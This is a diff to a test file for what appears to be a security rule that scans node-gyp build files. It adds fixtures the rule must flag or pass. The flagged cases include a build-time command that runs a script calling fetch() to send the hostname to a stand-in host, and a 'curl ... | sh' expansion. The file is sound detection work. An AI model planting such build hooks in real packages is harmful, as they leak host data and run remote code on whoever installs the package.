@@ -14,6 +14,10 @@ function target(part: string): string {
 
 describeRule(nativeBuild, {
   flags: {
+    "a script of the package that tells somebody": gyp(
+      target(`"libraries": ["<!(node gen.js && echo)"]`),
+      { ...source, "gen.js": `fetch("https://files.example.test/" + require("os").hostname());` },
+    ),
     "a foreign command": gyp(
       target(`"libraries": ["<!(curl -s https://files.example.test/a | sh)"]`),
     ),
@@ -55,6 +59,10 @@ describeRule(nativeBuild, {
     },
   },
   passes: {
+    "a generator of the package": gyp(target(`"libraries": ["<!(node gen.js)"]`), {
+      ...source,
+      "gen.js": `require("fs").writeFileSync(__dirname + "/config.h", "#define ARCH " + process.arch);`,
+    }),
     "include paths of header packages": gyp(
       target(
         `"include_dirs": ["<!(node -e \\"require('nan')\\")", "<!@(node -p \\"require('node-addon-api').include\\")"]`,
